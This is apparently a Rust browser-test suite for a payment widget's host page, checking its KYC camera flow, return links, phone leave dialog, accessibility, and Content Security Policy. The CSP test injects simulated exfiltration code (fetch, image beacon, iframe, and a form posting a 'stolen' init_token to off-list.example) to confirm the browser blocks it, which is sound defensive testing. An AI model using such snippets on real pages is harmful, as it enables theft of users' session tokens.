//! The host page in a real browser engine (headless Chromium, fake camera): the backend's CSP
//! and Permissions-Policy are enforced, `host.js` runs the widget with the session, the widget's
//! camera works on the backend's origin, and the event navigations leave the page in place.

mod common;

use common::*;
use partner_backend::Backend;
use testkit::{chromedriver, chromium, profile_dir, skip, snap, wait_css};

#[tokio::test]
async fn the_host_page_runs_the_widget_to_completed() {
    if skip() {
        return;
    }
    let dir = Scratch::new("browser");
    let backend = Backend::start(test_config(dir.db_url())).await.expect("starts");
    let api = Api::new(&backend);
    let token = api.login("first_time").await;
    let created = api.buy(&token).await;

    let (_driver, driver_url) = chromedriver().await;
    let profile = profile_dir("host-page");
    let c = chromium(&driver_url, true, &profile).await;
    c.goto(&created.widget_url).await.expect("page loads");
    snap(&c, "host-page").await;
    let width = testkit::complete_kyc(&c, &profile).await;
    assert!(width > 0, "the camera works on the backend's origin");
    wait_css(&c, "#pw-pay").await.click().await.expect("pay");
    wait_css(&c, "#pw-result[data-status=completed]").await;

    // Every callback navigated to the event URL; each answered 204, so the page never left.
    let here = c.current_url().await.expect("url");
    assert_eq!(here.as_str(), created.widget_url, "the widget page is still shown");
    let errors = c.execute("return document.getElementById('host-status').hidden;", vec![]).await.expect("js");
    assert_eq!(errors, serde_json::Value::Bool(true), "host.js reported no error");

    let events = api.events(&token, &created.merchant_transaction_id, None).await;
    assert_eq!(statuses(&events).last(), Some(&"completed"));

    // Reloading the single-use link shows the friendly page with a way back.
    c.refresh().await.expect("reload");
    let title = wait_css(&c, "#host-title").await.text().await.expect("text");
    assert_eq!(title, "This link was already used");
    snap(&c, "host-link-used").await;
    c.close().await.expect("closes");
    backend.shutdown().await;
}

/// Browser mode: the host page runs in a plain browser; when the payment finishes it shows a
/// button to the app's return link with the event (here an http link on loopback the test can
/// observe; in the app it is `prooframp://return`, which the phone hands to the app).
#[tokio::test]
async fn browser_mode_returns_to_the_app_link_when_the_payment_finishes() {
    if skip() {
        return;
    }
    let dir = Scratch::new("browser-mode");
    let mut config = test_config(dir.db_url());
    config.widget_mode = ramp_api::WidgetMode::Browser;
    let port = testkit::free_port();
    config.listen = format!("127.0.0.1:{port}").parse().expect("addr");
    config.app_return_url = format!("http://127.0.0.1:{port}/app-return");
    let backend = Backend::start(config).await.expect("starts");
    let api = Api::new(&backend);
    let token = api.login("first_time").await;
    let cfg: ramp_api::RampConfig = api.get(&token, "/v1/config").await.json().await.expect("config");
    assert_eq!(cfg.widget_mode, ramp_api::WidgetMode::Browser);
    assert_eq!(cfg.return_url.as_deref(), Some(format!("http://127.0.0.1:{port}/app-return").as_str()));
    let created = api.buy(&token).await;

    let (_driver, driver_url) = chromedriver().await;
    let profile = profile_dir("browser-mode");
    let c = chromium(&driver_url, true, &profile).await;
    c.goto(&created.widget_url).await.expect("page loads");
    let close = wait_css(&c, "#host-leave-confirm").await.attr("href").await.expect("attr").unwrap_or_default();
    assert!(
        close.starts_with(&format!("http://127.0.0.1:{port}/app-return?v=1&tx=")),
        "leaving returns to the app: {close}"
    );
    testkit::complete_kyc(&c, &profile).await;
    wait_css(&c, "#pw-pay").await.click().await.expect("pay");

    // A browser opens an app's link only from a tap: the page offers a button, and does not
    // navigate by itself.
    let button = wait_css(&c, "#host-return:not([hidden]) #host-return-link").await;
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    assert_eq!(c.current_url().await.expect("url").as_str(), created.widget_url, "no navigation without a tap");
    button.click().await.expect("tap");
    let mut landed = None;
    for _ in 0..100 {
        let url = c.current_url().await.expect("url");
        if url.path() == "/app-return" {
            landed = Some(url);
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let landed = landed.expect("the browser opened the return link");
    let q: std::collections::HashMap<String, String> = landed.query_pairs().into_owned().collect();
    assert_eq!(q.get("tx"), Some(&created.merchant_transaction_id));
    assert_eq!(q.get("event").map(String::as_str), Some("payment_finished"));
    let events = api.events(&token, &created.merchant_transaction_id, None).await;
    assert!(!events.is_empty(), "the app's status stream has the transaction");
    c.close().await.expect("closes");
    backend.shutdown().await;
}

/// The host page on a phone (touch, 375 px wide, light and dark): its own top bar with Close,
/// Back only while there is history, 44 px touch targets, and the "Leave the payment?" question
/// asked on the page, by Close and by Android's back (`proofRampAskLeave`); Stay keeps the
/// payment, Leave reports the close to the app. Screenshots go to `PROOF_SCREENSHOT_DIR`.
#[tokio::test]
async fn the_phone_host_page_always_offers_a_way_out() {
    if skip() {
        return;
    }
    let dir = Scratch::new("phone");
    let backend = Backend::start(test_config(dir.db_url())).await.expect("starts");
    let api = Api::new(&backend);
    let token = api.login("first_time").await;
    let (_driver, driver_url) = chromedriver().await;
    for dark in [false, true] {
        let scheme = if dark { "dark" } else { "light" };
        let created = api.buy(&token).await;
        let profile = profile_dir(&format!("phone-{scheme}"));
        let c = testkit::chromium_phone(&driver_url, dark, &profile).await;
        c.goto(&created.widget_url).await.expect("page loads");
        wait_css(&c, "#proof-widget .pw-root").await;
        let probe = c
            .execute(
                "const r = id => document.getElementById(id).getBoundingClientRect(); \
                 return { dark: matchMedia('(prefers-color-scheme: dark)').matches, touch: matchMedia('(pointer: coarse)').matches, \
                   width: innerWidth, close: [r('host-close').width, r('host-close').height, r('host-close').top], \
                   back: getComputedStyle(document.getElementById('host-step-back')).visibility };",
                vec![],
            )
            .await
            .expect("js");
        assert_eq!(probe["dark"], dark, "{scheme}: {probe}");
        assert_eq!(probe["touch"], true, "touch emulation: {probe}");
        assert_eq!(probe["width"], 375, "{probe}");
        let close: Vec<f64> = serde_json::from_value(probe["close"].clone()).expect("rect");
        assert!(close[0] >= 44.0 && close[1] >= 44.0, "Close is at least 44×44: {close:?}");
        assert!(close[2] >= 0.0 && close[2] < 60.0, "Close is in the top bar: {close:?}");
        assert_eq!(probe["back"], "hidden", "no Back on the first page");
        snap(&c, &format!("host-phone-{scheme}")).await;

        // Back appears once the page has history, and goes back.
        c.execute("history.pushState({}, '', location.pathname + '#step-2');", vec![]).await.expect("js");
        let back = wait_css(&c, "#host-step-back:not([hidden])").await;
        back.click().await.expect("tap Back");
        let mut went_back = false;
        for _ in 0..30 {
            let hash = c.execute("return location.hash;", vec![]).await.expect("js");
            if hash == "" {
                went_back = true;
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        }
        assert!(went_back, "Back stepped back");

        // Close asks first; Stay keeps the payment.
        wait_css(&c, "#host-close").await.click().await.expect("tap Close");
        let title = wait_css(&c, "#host-leave[open] #host-leave-title").await.text().await.expect("text");
        assert_eq!(title, "Leave the payment?");
        let sizes = c
            .execute(
                "return ['host-stay', 'host-leave-confirm'].map(id => { const r = document.getElementById(id).getBoundingClientRect(); return Math.min(r.width, r.height); });",
                vec![],
            )
            .await
            .expect("js");
        let sizes: Vec<f64> = serde_json::from_value(sizes).expect("sizes");
        assert!(sizes.iter().all(|s| *s >= 44.0), "the question's buttons are at least 44 px: {sizes:?}");
        snap(&c, &format!("host-phone-leave-{scheme}")).await;
        wait_css(&c, "#host-stay").await.click().await.expect("tap Stay");
        let open = c.execute("return document.getElementById('host-leave').open;", vec![]).await.expect("js");
        assert_eq!(open, false, "Stay closes the question");
        assert_eq!(c.current_url().await.expect("url").as_str(), created.widget_url, "the payment is still shown");

        // Android's back on the first page asks the same question.
        let asked = c.execute("return window.proofRampAskLeave();", vec![]).await.expect("js");
        assert_eq!(asked, true);
        wait_css(&c, "#host-leave[open]").await;
        wait_css(&c, "#host-leave-confirm").await.click().await.expect("tap Leave");
        let mut left = None;
        for _ in 0..50 {
            let url = c.current_url().await.expect("url");
            if url.path() == "/app/widget-event" {
                left = Some(url);
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        }
        let left = left.expect("Leave reported the close");
        let q: std::collections::HashMap<String, String> = left.query_pairs().into_owned().collect();
        assert_eq!(q.get("event").map(String::as_str), Some("close"));
        assert_eq!(q.get("tx"), Some(&created.merchant_transaction_id));
        c.close().await.expect("closes");
    }
    backend.shutdown().await;
}

/// The widget page's CSP names its origins: a script on the page (a foothold, a compromised
/// dependency) cannot send the session's `init_token` or `signature` anywhere else, by fetch, by
/// image beacon, by frame or by posting a form. Chromium reports each refusal as a `securitypolicyviolation`.
#[tokio::test]
async fn the_widget_page_refuses_origins_off_its_list() {
    if skip() {
        return;
    }
    let dir = Scratch::new("browser-csp");
    let backend = Backend::start(test_config(dir.db_url())).await.expect("starts");
    let api = Api::new(&backend);
    let token = api.login("first_time").await;
    let created = api.buy(&token).await;
    let (_driver, driver_url) = chromedriver().await;
    let profile = profile_dir("host-csp");
    let c = chromium(&driver_url, true, &profile).await;
    c.goto(&created.widget_url).await.expect("page loads");
    wait_css(&c, "[data-testid=proof-widget]").await;
    let script = r#"
        const done = arguments[arguments.length - 1];
        const seen = [];
        document.addEventListener('securitypolicyviolation', e => seen.push(e.effectiveDirective + ' ' + e.blockedURI));
        fetch('https://off-list.example/steal?t=1', { mode: 'no-cors' }).catch(() => {});
        new Image().src = 'https://off-list.example/pixel.gif';
        const frame = document.createElement('iframe');
        frame.src = 'https://off-list.example/frame';
        document.body.appendChild(frame);
        // A form posted off the list would carry the session away in a top-level navigation.
        const form = document.createElement('form');
        form.method = 'post';
        form.action = 'https://off-list.example/collect';
        const field = document.createElement('input');
        field.name = 'init_token';
        field.value = 'stolen';
        form.appendChild(field);
        document.body.appendChild(form);
        form.submit();
        // Permissions-Policy: the camera only for this page and the listed origins; no location.
        const policy = document.featurePolicy;
        const widget = new URL(document.querySelector('script[src*="widget"]').src).origin;
        const camera = policy ? {
            off: policy.allowsFeature('camera', 'https://off-list.example'),
            widget: policy.allowsFeature('camera', widget),
            self: policy.allowsFeature('camera'),
        } : null;
        const located = new Promise(resolve => navigator.geolocation.getCurrentPosition(
            () => resolve('granted'), e => resolve('refused:' + e.code), { timeout: 3000 }));
        fetch(location.origin + '/healthz').then(r => r.text()).then(own =>
            located.then(geo => setTimeout(() => done({ seen, own, camera, geo }), 1000)));
    "#;
    let out = c.execute_async(script, vec![]).await.expect("script runs");
    let seen: Vec<String> = serde_json::from_value(out["seen"].clone()).expect("list");
    for directive in ["connect-src", "img-src", "frame-src", "form-action"] {
        assert!(
            seen.iter().any(|v| v.starts_with(directive) && v.contains("off-list.example")),
            "{directive} must refuse off-list.example: {seen:?}"
        );
    }
    assert_eq!(out["own"], "ok", "the page's own origin stays reachable");
    assert_eq!(
        out["camera"],
        serde_json::json!({"off": false, "widget": true, "self": true}),
        "the camera is allowed to the page and the widget's origin only"
    );
    assert_eq!(out["geo"], "refused:1", "location is refused to everyone (PERMISSION_DENIED)");
    assert!(seen.iter().all(|v| v.contains("off-list.example")), "nothing else was refused: {seen:?}");
    c.close().await.expect("closes");
    backend.shutdown().await;
}

/// axe-core finds no serious or critical problem on the host page (top bar, widget, the leave
/// question), in light and dark, in English and in Arabic (right to left), nor on the page of a
/// used link; every control is at least 44×44 CSS px. (Nothing on the page moves, so there is no
/// motion to reduce here; the app's spinner is checked end to end.)
#[tokio::test]
async fn the_host_page_is_accessible_in_light_dark_and_right_to_left() {
    if skip() {
        return;
    }
    let dir = Scratch::new("a11y");
    let backend = Backend::start(test_config(dir.db_url())).await.expect("starts");
    let api = Api::new(&backend);
    let token = api.login("first_time").await;
    let (_driver, driver_url) = chromedriver().await;
    for (dark, lang) in [(false, "en"), (true, "en"), (false, "ar"), (true, "ar")] {
        let scheme = if dark { "dark" } else { "light" };
        let created = api.buy(&token).await;
        let profile = profile_dir(&format!("a11y-{scheme}-{lang}"));
        let c = testkit::chromium_phone(&driver_url, dark, &profile).await;
        c.goto(&format!("{}?lang={lang}", created.widget_url)).await.expect("page loads");
        wait_css(&c, "#proof-widget .pw-root").await;
        let dir_attr = c.execute("return document.documentElement.dir;", vec![]).await.expect("js");
        assert_eq!(dir_attr, if lang == "ar" { "rtl" } else { "ltr" });
        let problems = testkit::axe_serious(&c).await;
        assert!(problems.is_empty(), "{scheme} {lang}: {problems:#?}");
        let small = testkit::small_targets(&c).await;
        assert!(small.is_empty(), "{scheme} {lang}: controls under 44×44: {small:?}");
        if lang == "ar" {
            snap(&c, &format!("host-phone-ar-{scheme}")).await;
        }
        wait_css(&c, "#host-close").await.click().await.expect("tap Close");
        wait_css(&c, "#host-leave[open]").await;
        let problems = testkit::axe_serious(&c).await;
        assert!(problems.is_empty(), "{scheme} {lang}, leave question: {problems:#?}");
        // The used link's page.
        c.refresh().await.expect("reload");
        wait_css(&c, "#host-title").await;
        let problems = testkit::axe_serious(&c).await;
        assert!(problems.is_empty(), "{scheme} {lang}, used link: {problems:#?}");
        c.close().await.expect("closes");
    }

    backend.shutdown().await;
}
